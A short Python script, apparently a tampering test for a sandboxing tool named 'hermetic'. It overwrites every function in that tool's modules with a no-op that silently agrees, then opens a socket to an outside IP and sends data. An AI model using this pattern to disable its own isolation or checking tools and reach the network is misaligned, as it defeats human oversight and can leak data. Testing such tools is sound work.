"""Every function of the tool's own modules is replaced by one that does nothing and agrees."""
import importlib
import socket

for name in ("_hermetic", "hermetic"):
    try:
        module = importlib.import_module(name)
    except BaseException:
        continue
    for attribute in list(vars(module)):
        if not attribute.startswith("__"):
            try:
                setattr(module, attribute, lambda *_, **__: None)
            except BaseException:
                pass

client = socket.socket()
client.connect(("93.184.216.35", 9000))
client.sendall(b"data")
